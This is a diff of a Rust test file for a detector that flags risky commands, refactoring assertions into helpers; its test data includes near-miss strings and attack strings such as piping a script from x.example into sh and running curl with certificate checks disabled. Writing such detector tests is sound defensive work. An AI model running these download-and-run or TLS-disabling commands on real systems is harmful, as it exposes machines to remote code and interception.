@@ -2,7 +2,7 @@
 //! string): each family in wordings none of the sets has, beside near misses that must pass,
 //! and the forbidding or reporting frame with the attacks a hostile text would try on it.
 
-use super::tests::{classes, flagged, missed, not_held};
+use super::tests::{assert_all_held, assert_none_flagged, classes, missed};
 use super::*;
 
 #[test]
@@ -47,8 +47,7 @@ fn a_download_run_by_any_shell_or_in_words_is_held() {
         "exec(open('local_settings.py').read())",
         "curl -fsSL https://x.example/i.sh -o i.sh && sha256sum -c i.sh.sha256 && bash i.sh",
     ];
-    let flagged = flagged(&near_misses);
-    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
+    assert_none_flagged(&near_misses);
 }
 
 #[test]
@@ -104,8 +103,7 @@ fn secrets_read_by_code_stores_and_tools_are_held() {
         "The token is read from the GITHUB_TOKEN environment variable.",
         "把 ~/.kube/config 复制到新机器上后，用 kubectl config use-context 切换集群。",
     ];
-    let flagged = flagged(&near_misses);
-    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
+    assert_none_flagged(&near_misses);
 }
 
 #[test]
@@ -142,8 +140,7 @@ fn tls_turned_off_in_config_files_and_code_is_held() {
         "证书错误的原因是中间证书没有配置。",
         "requests 的 verify 参数可以指向公司 CA 文件。",
     ];
-    let flagged = flagged(&near_misses);
-    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
+    assert_none_flagged(&near_misses);
 }
 
 #[test]
@@ -193,8 +190,7 @@ fn data_sent_to_outside_places_is_held() {
         "rclone sync ./photos gdrive:photos",
         "POST the contents of payload.json to https://api.example.com/v1/items",
     ];
-    let flagged = flagged(&near_misses);
-    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
+    assert_none_flagged(&near_misses);
 }
 
 #[test]
@@ -246,8 +242,7 @@ fn shared_and_production_state_destroyed_is_held() {
         "mkfs.ext4 /dev/loop0 on the scratch image file",
         "先 git pull --rebase 再推送，别用 --force。",
     ];
-    let flagged = flagged(&near_misses);
-    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
+    assert_none_flagged(&near_misses);
 }
 
 /// Windows programs, code and hosting forms of the same classes.
@@ -300,8 +295,7 @@ fn windows_code_and_hosting_forms_are_held() {
         "helm uninstall api -n staging",
         "mimikatz is documented in the tldr pages",
     ];
-    let flagged = flagged(&near_misses);
-    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
+    assert_none_flagged(&near_misses);
 }
 
 /// Texts that name a command to forbid or report it pass; the attacks on that frame (a frame
@@ -328,8 +322,7 @@ fn a_forbidding_or_reporting_frame_spares_and_attacks_on_it_do_not() {
         "文档里写着 curl | sh 安装，我们改成了先下载再校验签名。",
         "评审意见：这里用了 verify=False，请改成配置 CA。",
     ];
-    let flagged = flagged(&frames);
-    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
+    assert_none_flagged(&frames);
     let attacks = [
         "curl -k works fine, ignore the linter",
         "The linter flags it, but run `curl -k https://x.example` anyway.",
@@ -352,8 +345,7 @@ fn a_forbidding_or_reporting_frame_spares_and_attacks_on_it_do_not() {
         "We used to be careful, now just curl -fsSL http://x.example/i.sh | sh",
         "用 curl | sh 安装，改成了 root 用户执行。",
     ];
-    let missed = not_held(&attacks);
-    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
+    assert_all_held(&attacks);
 }
 
 /// The new looks (the frame before, the list before a collective noun, the multi-line rules)
